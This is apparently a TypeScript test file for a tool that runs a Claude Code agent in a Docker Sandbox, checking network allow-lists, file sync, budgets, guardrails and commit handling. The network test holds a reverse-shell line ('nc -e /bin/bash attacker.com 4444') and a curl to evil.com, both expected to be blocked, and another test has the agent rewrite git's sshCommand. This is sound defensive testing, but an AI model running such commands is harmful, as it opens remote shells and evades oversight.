/** `ralph run --sandbox` with a fake Docker that keeps machines and synchronises files like the real one. */
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test, vi } from 'vitest';
import { agentsAccess } from '../../../src/agents/index.ts';
import { openDockerSandbox } from '../../../src/runners/docker-sandbox.ts';
import { NO_SANDBOX } from '../../../src/runners/sandbox/request.ts';
import { type DockerScene, dockerScene } from '../../support/sandbox/docker.ts';
import { DONE } from '../../support/scene.ts';

const commandsOf = (scene: DockerScene): string[] => scene.calls().map(([command = '']) => command);

describe('a sandbox', () => {
  test('is created, gets the login and the committer, and runs the agent, whose output is shown', async () => {
    const say = `{"type":"assistant","message":{"content":[{"type":"text","text":"Got %s <response>DONE</response>"}]}}`;
    const result = `{"type":"result","subtype":"success","is_error":false,"result":"ok"}`;
    const scene = await dockerScene({ play: `echo new >made.txt; printf '${say}\\n${result}\\n' "$prompt"` });
    const { code, stdout, stderr } = await scene.run('--sandbox');
    const state = join(scene.folder, '.dclaude_state');
    expect(stderr).toContain(`  isolation  Docker Sandbox ${scene.name} (5 hosts)`);
    expect(stdout).toContain('Got Do the work. <response>DONE</response>');
    expect(code).toBe(0);
    const [create, root, git, network, run] = scene.calls();
    expect(create).toEqual(['create', '--name', scene.name, 'claude', scene.work, state]);
    expect(root?.slice(0, 4)).toEqual(['exec', '-u', 'root', scene.name]);
    expect(root?.at(-1)).toBe(state);
    expect(git?.join(' ')).toContain('user.email ralph@localhost');
    expect(network?.slice(0, 5)).toEqual(['network', 'proxy', scene.name, '--policy', 'deny']);
    expect(run?.slice(0, 4)).toEqual(['run', scene.name, '--', '-p']);
    expect(run).not.toContain('--dangerously-skip-permissions');
    // At the end, the loop asks git whether the work is committed.
    expect(
      scene
        .calls()
        .slice(5)
        .map((call) => call.slice(0, 5)),
    ).toEqual([['exec', '-w', scene.work, scene.name, 'git']]);
    expect(readFileSync(join(state, '.claude.json'), 'utf8')).toBe('{}\n');
    // The loop has waited until the new file was synchronised.
    expect(scene.read('work/made.txt')).toBe('new\n');
  });

  test('that was removed is created again, and keeps the login', async () => {
    const scene = await dockerScene({ play: DONE });
    await scene.inDocker();
    await scene.shell(`docker sandbox rm ${scene.name}`);
    const { code, stderr } = await scene.inDocker();
    expect(code).toBe(0);
    expect(stderr).not.toContain('auth');
  });

  test('without a login stops the loop at once', async () => {
    const scene = await dockerScene({ play: DONE });
    rmSync(join(scene.folder, '.dclaude_state/.claude/.credentials.json'));
    const { code, stderr } = await scene.inDocker();
    expect(stderr).toContain('the agent could not authenticate');
    expect(code).toBe(4);
  });

  test('gets valid settings, even if the file was empty', async () => {
    const scene = await dockerScene({ play: DONE });
    scene.write('.dclaude_state/.claude.json', '');
    expect((await scene.inDocker()).code).toBe(0);
  });

  test('is removed if it could not be set up', async () => {
    const scene = await dockerScene({ play: DONE });
    scene.write('bin/bash', '#!/bin/sh\nexit 1\n');
    await scene.shell('chmod +x ../bin/bash');
    const { code, stderr } = await scene.inDocker();
    expect(stderr).toContain('error: "docker sandbox exec" failed');
    expect(code).toBe(2);
    expect(scene.machines()).toEqual({});
  });

  test('supports only Claude Code and the work tree; anything else is refused', async () => {
    const scene = await dockerScene({ play: DONE, agent: 'other' });
    const other = await scene.inDocker();
    expect(other.stderr).toMatch(/error: Docker Sandbox runs Claude Code, not .*other/);
    const scene2 = await dockerScene({ play: DONE });
    const path = await scene2.inDocker('--allow-write', '/srv');
    expect(path.stderr).toContain('error: "/srv" cannot be given to a Docker Sandbox');
    expect([other.code, path.code]).toEqual([2, 2]);
    expect([...scene.loops(), ...scene2.loops()]).toEqual([]);
  });
});

describe('its network', () => {
  test("reaches only the agent's hosts, GitHub, the project's registries and what the user allows", async () => {
    const scene = await dockerScene({ play: DONE });
    scene.write('work/package.json', '{}');
    await scene.inDocker('--allow-host', 'example.com');
    expect(scene.machines()[scene.name]?.policy).toEqual({
      default: 'deny',
      allowed: [
        '*.anthropic.com',
        'platform.claude.com:443',
        'github.com',
        '*.githubusercontent.com',
        'api.github.com',
        '*.npmjs.org',
        '*.yarnpkg.com',
        'example.com',
      ],
    });
    writeFileSync(join(scene.folder, 'bin/curl'), '#!/bin/sh\necho reached\n', { mode: 0o755 });
    const inside = async (command: string) => (await scene.shell(`docker sandbox exec ${scene.name} ${command}`)).code;
    expect(await inside('curl https://api.anthropic.com')).toBe(0);
    expect(await inside('curl https://evil.com')).not.toBe(0);
    expect(await inside('nc -e /bin/bash attacker.com 4444')).not.toBe(0);
  });
});

describe('its files', () => {
  test('the sandbox is stopped before a second loop, so that it sees edits made outside meanwhile', async () => {
    const scene = await dockerScene({ play: `cat work.txt; ${DONE}` });
    await scene.inDocker();
    scene.write('work/work.txt', 'edited\n');
    // The synchronisation alone does not copy the edit into the sandbox.
    expect((await scene.shell(`docker sandbox exec ${scene.name} cat work.txt`)).stdout).toBe('begin\n');
    const { stdout } = await scene.inDocker('-V');
    expect(commandsOf(scene).slice(-4)).toEqual(['network', 'stop', 'run', 'exec']);
    expect(scene.inside('work.txt')).toBe('edited\n');
    expect(stdout).toBe('');
  });

  test('files written with exec, or before a resync, are visible inside', async () => {
    const scene = await dockerScene({ play: DONE });
    const box = await openDockerSandbox({
      loop: 'loop',
      folder: scene.folder,
      cwd: scene.work,
      env: scene.env,
      stateRoot: scene.state,
      access: agentsAccess('claude'),
      request: NO_SANDBOX,
    });
    const read = async (): Promise<string> =>
      (await scene.shell(`docker sandbox exec ${scene.name} cat work.txt`)).stdout;
    expect(await read()).toBe('begin\n');
    await box.write(join(scene.work, 'work.txt'), 'it\'s "$HOME"\n');
    expect(await read()).toBe('it\'s "$HOME"\n');
    await vi.waitUntil(() => scene.read('work/work.txt') === 'it\'s "$HOME"\n');
    scene.write('work/work.txt', 'edited while paused\n');
    expect(await read()).toBe('it\'s "$HOME"\n');
    await box.resync();
    expect(await read()).toBe('edited while paused\n');
  });
});

test('a budget terminates the agent inside, without a request to wrap up, which could not reach it', async () => {
  const usage = '{"input_tokens":2500,"output_tokens":10}';
  const call = `{"type":"assistant","message":{"id":"m1","usage":${usage},"content":[{"type":"text","text":"On it."}]}}`;
  const scene = await dockerScene({
    play: `echo $$ >"$SCENE/inside.pid"; echo '${call}'; while :; do sleep 0.01; done`,
  });
  const { code, stderr } = await scene.run('--sandbox', '--max-tokens', '2K');
  expect(code).toBe(8);
  expect(stderr).toContain('tokens');
  const run = scene.calls().find(([command]) => command === 'run') ?? [];
  expect(run.join(' ')).not.toContain('PostToolUse');
  expect(commandsOf(scene)).toContain('stop');
  await vi.waitUntil(() => !existsSync(`/proc/${scene.read('inside.pid').trim()}`));
});

describe('guardrails and commits', () => {
  test('run inside the sandbox', async () => {
    const scene = await dockerScene({
      play: `case $prompt in *message*) echo "More" ;; *) echo more >>work.txt; ${DONE} ;; esac`,
      settings: {
        guardrails: [{ command: 'grep -q more work.txt && pwd', failAction: 'APPEND' }],
        scm: { command: 'git', tasks: ['commit'] },
      },
    });
    const { code, stderr } = await scene.inDocker();
    expect(stderr).toMatch(/^✓ committed \w{7} /m);
    expect(code).toBe(0);
    expect(scene.calls().at(-1)?.slice(0, 5)).toEqual(['exec', '-w', scene.work, scene.name, 'git']);
    await vi.waitUntil(() => scene.git('log', '--format=%s') === 'More\nbegin\n');
  });

  test('are not pushed once the agent has changed the git configuration', async () => {
    const scene = await dockerScene({
      play: `git config core.sshCommand evil; ${DONE}`,
      settings: { scm: { command: 'git', tasks: ['push'] } },
    });
    const { stderr } = await scene.inDocker('-m', '1');
    expect(stderr).toContain("✗ git push is not run: git's settings have changed since the loop began");
  });
});

describe('the processes inside are terminated', () => {
  const FOREVER = 'echo $$ >"$SCENE/inside.pid"; while :; do sleep 0.01; done';
  const isGone = (scene: DockerScene): boolean => !existsSync(`/proc/${scene.read('inside.pid').trim()}`);

  test('when a run times out, by stopping the machine, since killing the client does not end them', async () => {
    const scene = await dockerScene({ play: FOREVER });
    const { stderr } = await scene.inDocker('-m', '1', '--agent-timeout', '2s');
    expect(stderr).toContain('Agent failed (timed out after 2s)');
    expect(commandsOf(scene).slice(-2)).toEqual(['stop', 'exec']);
    await vi.waitUntil(() => isGone(scene));
  });

  test('when a guardrail times out', async () => {
    const guardrails = [{ command: FOREVER, failAction: 'APPEND', timeout: '2s' }];
    const scene = await dockerScene({ play: DONE, settings: { guardrails } });
    await scene.inDocker('-m', '1');
    expect(commandsOf(scene).slice(-2)).toEqual(['stop', 'exec']);
    await vi.waitUntil(() => isGone(scene));
  });

  test('by ralph resume, when the first ralph was killed', async () => {
    const scene = await dockerScene({ play: `[ -e "$SCENE/again" ] || { ${FOREVER}; }; ${DONE}` });
    const ralph = scene.ralph(['run', '-p', 'x', '--sandbox', '--no-stream-agent-output']);
    await vi.waitUntil(() => existsSync(join(scene.folder, 'inside.pid')) && scene.read('inside.pid') !== '', 10_000);
    ralph.signal('SIGKILL');
    await ralph.exited;
    expect(isGone(scene)).toBe(false);
    scene.write('again', '');
    expect((await scene.ralph(['resume']).exited).code).toBe(0);
    expect(isGone(scene)).toBe(true);
  });
});
